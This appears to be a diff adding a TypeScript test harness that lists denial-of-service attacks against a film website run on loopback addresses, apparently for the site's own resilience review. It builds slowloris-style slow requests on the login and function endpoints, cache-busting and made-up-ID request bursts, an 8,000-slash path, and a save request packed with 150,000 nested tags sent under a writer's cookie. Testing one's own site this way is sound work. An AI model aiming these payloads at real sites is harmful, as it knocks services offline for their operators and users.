@@ -1,0 +1,52 @@
+import type { Attack } from './attacker.ts';
+
+/** Attackers have these addresses of loopback, visitors and editors others; 127.0.0.1 is the proxy of the operator. */
+export const ATTACKERS = ['127.0.0.2', '127.0.0.3', '127.0.0.4', '127.0.0.5'];
+
+export type AttackPlan = Pick<Attack, 'slow' | 'requests'>;
+
+export interface AttackTargets {
+  /** Host the site is known by. */
+  host: string;
+  origin: string;
+  /** Paths of share cards that nobody asked for yet. */
+  cards: readonly string[];
+  /** Cookie of a signed-in writer. */
+  writer: string;
+}
+
+const SLOW = { sockets: 200, everyMs: 2_000 };
+const NESTED = '<em>'.repeat(150_000);
+
+/** Each as the review made it: a byte every 2 s, bursts of 45. */
+export function listAttacks({ host, origin, cards, writer }: AttackTargets): Record<string, AttackPlan> {
+  const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
+  const slowBody = (path: string, type: string, first: string) => ({
+    slow: {
+      ...SLOW,
+      drip: ' ',
+      head: `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nContent-Type: ${type}\r\nContent-Length: 1000\r\n\r\n${first}`,
+    },
+  });
+  const slowHeaders = (path: string) => ({
+    slow: { ...SLOW, drip: 'x', head: `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Slow: ` },
+  });
+  const burst = (paths: readonly string[], atOnce = 45, everyMs = 1_000) => ({
+    requests: { texts: paths.map(get), atOnce, everyMs },
+  });
+  const save = (field: string) => {
+    const body = `intent=save&saves=${JSON.stringify([{ field, value: NESTED, version: 0 }])}`;
+    return `POST /admin/filmes/598 HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${origin}\r\nCookie: ${writer}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`;
+  };
+  return {
+    'slow-functions': slowBody('/functions/getHomeAll', 'application/json', '{'),
+    'slow-login': slowBody('/admin/login', 'application/x-www-form-urlencoded', 'e'),
+    'slow-pictures': slowHeaders('/img/poster/w342/x.webp'),
+    'slow-home': slowHeaders('/'),
+    'cache-busting': burst(['/?q=a{n}', '/sobre?ano={n}', '/filmes?x={n}']),
+    'made-up-ids': burst(['/filme/x-77{n}', '/serie/x-77{n}', '/pessoa/x-77{n}']),
+    'share-cards': burst(cards, 15),
+    slashes: burst([`/x${'/'.repeat(8_000)}a/`]),
+    'nested-tags': { requests: { texts: ['curiosities', 'overview'].map(save), atOnce: 1, everyMs: 500 } },
+  };
+}
